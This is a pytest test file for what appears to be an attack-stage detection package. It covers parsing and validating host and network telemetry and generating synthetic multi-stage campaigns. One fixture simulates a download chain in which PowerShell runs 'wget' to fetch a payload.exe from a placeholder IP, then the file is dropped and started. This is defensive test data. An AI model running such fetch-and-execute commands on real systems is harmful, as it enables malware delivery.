"""Telemetry parsing, validation, and synthetic scenario generation."""
import io
import json

import numpy as np
import pytest
from hypothesis import given, strategies as st

from aptstage.errors import TelemetryParseError, ValidationError
from aptstage.telemetry import (
    WINDOW_SECONDS,
    EntityKind,
    EntityRef,
    EventKind,
    HostEvent,
    NetworkAlert,
    Protocol,
    ScenarioConfig,
    StageInterval,
    default_campaign_schedule,
    dump_jsonl,
    generate_scenario,
    parse_alerts,
    parse_host_events,
)

PS = EntityRef(EntityKind.PROCESS, "host1/pid:11/powershell.exe")
WGET = EntityRef(EntityKind.PROCESS, "host1/pid:12/wget.exe")
PAYLOAD = EntityRef(EntityKind.FILE, "C:/Users/victim/payload.exe")


def ev_line(ts, kind, subj, obj, **extra):
    rec = {"ts": ts, "host": "host1", "kind": kind,
           "subj_kind": subj.kind.value, "subj_key": subj.key,
           "obj_kind": obj.kind.value, "obj_key": obj.key}
    rec.update(extra)
    return json.dumps(rec)


def test_parse_download_chain():
    lines = [
        ev_line(10.0, "ProcessCreate", PS, WGET, cmd="wget http://203.0.113.10/payload.exe"),
        ev_line(14.0, "FileCreate", WGET, PAYLOAD),
        ev_line(16.0, "ProcessCreate",
                EntityRef(EntityKind.PROCESS, "host1/pid:13/payload.exe"),
                EntityRef(EntityKind.PROCESS, "host1/pid:13/payload.exe")),
    ]
    events = parse_host_events("\n".join(lines))
    assert [e.event_kind for e in events] == [
        EventKind.PROCESS_CREATE, EventKind.FILE_CREATE, EventKind.PROCESS_CREATE]
    assert events[0].subject == PS and events[0].object == WGET
    assert events[1].object == PAYLOAD


def test_parse_empty_stream():
    assert parse_host_events("") == []
    assert parse_alerts("") == []


def test_stable_sort_on_ties():
    a = ev_line(5.0, "FileRead", WGET, PAYLOAD)
    b = ev_line(5.0, "FileWrite", WGET, PAYLOAD)
    events = parse_host_events("\n".join([a, b]))
    assert [e.event_kind for e in events] == [EventKind.FILE_READ, EventKind.FILE_WRITE]
    # and out-of-order timestamps get sorted
    events = parse_host_events("\n".join([ev_line(9.0, "FileRead", WGET, PAYLOAD), a]))
    assert [e.timestamp for e in events] == [5.0, 9.0]


def test_parse_error_carries_line_number():
    good = ev_line(1.0, "FileRead", WGET, PAYLOAD)
    with pytest.raises(TelemetryParseError) as ei:
        parse_host_events("\n".join([good, "{not json"]))
    assert ei.value.line_no == 2
    with pytest.raises(TelemetryParseError) as ei:
        parse_host_events("\n".join([good, '{"ts": 1.0}']))
    assert ei.value.line_no == 2 and "missing" in str(ei.value)


def test_unknown_kind_rejected():
    bad = ev_line(1.0, "TotallyNewKind", WGET, PAYLOAD)
    with pytest.raises(TelemetryParseError):
        parse_host_events(bad)


def alert_line(**over):
    rec = {"ts": 13.0, "sig": "ET TROJAN Possible Malicious EXE Download",
           "sev": 0.8, "proto": "tcp", "cat": "trojan-activity",
           "src_ip": "10.1.1.45", "src_port": 49152,
           "dst_ip": "203.0.113.10", "dst_port": 80}
    rec.update(over)
    return json.dumps(rec)


def test_parse_alert_fields():
    (alert,) = parse_alerts(alert_line())
    assert alert.signature == "ET TROJAN Possible Malicious EXE Download"
    assert alert.src_ip == "10.1.1.45" and alert.dst_ip == "203.0.113.10"
    assert alert.protocol is Protocol.TCP


def test_alert_severity_boundaries():
    (alert,) = parse_alerts(alert_line(sev=1.0))
    assert alert.severity == 1.0
    with pytest.raises(TelemetryParseError):
        parse_alerts(alert_line(sev=1.5))
    with pytest.raises(TelemetryParseError):
        parse_alerts(alert_line(src_port=70000))


def test_event_invariants():
    with pytest.raises(ValidationError):
        HostEvent(1.0, "h", EventKind.FILE_READ, WGET, WGET)  # self edge
    # self edge fine for exec/create-self
    HostEvent(1.0, "h", EventKind.FILE_EXEC, WGET, WGET)
    with pytest.raises(ValidationError):
        HostEvent(1.0, "h", EventKind.PROCESS_CREATE, PS, WGET, bytes=3)
    with pytest.raises(ValidationError):
        HostEvent(float("nan"), "h", EventKind.FILE_READ, WGET, PAYLOAD)


@given(st.floats(0, 1e6), st.integers(0, 65535), st.sampled_from(list(Protocol)))
def test_alert_roundtrip(ts, port, proto):
    alert = NetworkAlert(ts, "sig", 0.5, proto, "cat", "1.2.3.4", port, "5.6.7.8", 443)
    assert NetworkAlert.from_record(json.loads(alert.to_json_line())) == alert


def test_event_roundtrip_with_optionals():
    ev = HostEvent(3.5, "h2", EventKind.NET_SEND, WGET,
                   EntityRef(EntityKind.IP, "203.0.113.10:80"),
                   command=None, user="alice", bytes=512)
    back = HostEvent.from_record(json.loads(ev.to_json_line()))
    assert back == ev


def test_dump_then_parse_roundtrip():
    events = [HostEvent(1.0, "h", EventKind.FILE_READ, WGET, PAYLOAD, bytes=10),
              HostEvent(2.0, "h", EventKind.PROCESS_CREATE, PS, WGET,
                        command="x", user="u")]
    buf = io.StringIO()
    dump_jsonl(events, buf)
    assert parse_host_events(buf.getvalue()) == events


# ---------------------------------------------------------------- scenario


def campaign_cfg(seed=0, windows=12):
    dur = windows * WINDOW_SECONDS
    return ScenarioConfig(num_hosts=3, duration=dur,
                          stage_schedule=default_campaign_schedule(dur), seed=seed)


def test_scenario_deterministic():
    e1, a1, l1 = generate_scenario(campaign_cfg(seed=3))
    e2, a2, l2 = generate_scenario(campaign_cfg(seed=3))
    assert e1 == e2 and a1 == a2 and l1 == l2


def test_scenario_seeds_differ():
    differing = 0
    for s in range(10):
        e1, _, _ = generate_scenario(campaign_cfg(seed=s))
        e2, _, _ = generate_scenario(campaign_cfg(seed=s + 100))
        differing += e1 != e2
    assert differing >= 9


def test_empty_schedule_all_benign():
    cfg = ScenarioConfig(num_hosts=2, duration=4 * WINDOW_SECONDS,
                         stage_schedule=[], seed=1)
    events, alerts, labels = generate_scenario(cfg)
    assert set(labels) == {0}
    assert alerts == []
    assert events, "benign background traffic expected"


def test_campaign_covers_all_stages():
    _, _, labels = generate_scenario(campaign_cfg(seed=4))
    assert set(labels) == set(range(7))


def test_single_stage2_interval_contains_download_chain():
    dur = 3 * WINDOW_SECONDS
    cfg = ScenarioConfig(num_hosts=2, duration=dur,
                         stage_schedule=[StageInterval(2, 400.0, 500.0)], seed=6)
    events, alerts, labels = generate_scenario(cfg)
    window = [e for e in events if 300.0 <= e.timestamp < 600.0]
    kinds = [e.event_kind for e in window]
    assert EventKind.PROCESS_CREATE in kinds
    assert EventKind.FILE_CREATE in kinds
    assert EventKind.NET_CONNECT in kinds
    # the dropped payload starts itself: a self-referencing ProcessCreate
    assert any(e.event_kind is EventKind.PROCESS_CREATE and e.subject == e.object
               for e in window)
    assert len(alerts) >= 1  # network-crossing stage must raise >= 1 alert
    assert labels[1] == 2 and labels[0] == 0


def test_alerts_match_network_activity():
    events, alerts, _ = generate_scenario(campaign_cfg(seed=9))
    net_kinds = {EventKind.NET_CONNECT, EventKind.NET_SEND, EventKind.NET_RECV}
    for alert in alerts:
        w = int((alert.timestamp - min(e.timestamp for e in events)) // WINDOW_SECONDS)
        match = [e for e in events if e.event_kind in net_kinds
                 and abs(e.timestamp - alert.timestamp) < WINDOW_SECONDS
                 and (alert.src_ip.startswith("10.0.0.") or alert.dst_ip.startswith("10.0.0."))]
        assert match, f"alert at {alert.timestamp} (window {w}) has no nearby network event"


def test_labels_one_per_window():
    for windows in (4, 9):
        _, _, labels = generate_scenario(campaign_cfg(seed=2, windows=windows))
        assert len(labels) == windows


def test_config_validation():
    with pytest.raises(ValidationError):
        ScenarioConfig(num_hosts=0, duration=600.0, stage_schedule=[], seed=0)
    with pytest.raises(ValidationError):
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(7, 0.0, 10.0)], seed=0)
    with pytest.raises(ValidationError):  # overlapping intervals
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(1, 0.0, 100.0),
                                       StageInterval(2, 50.0, 150.0)], seed=0)
    with pytest.raises(ValidationError):  # out of range
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(1, 500.0, 700.0)], seed=0)
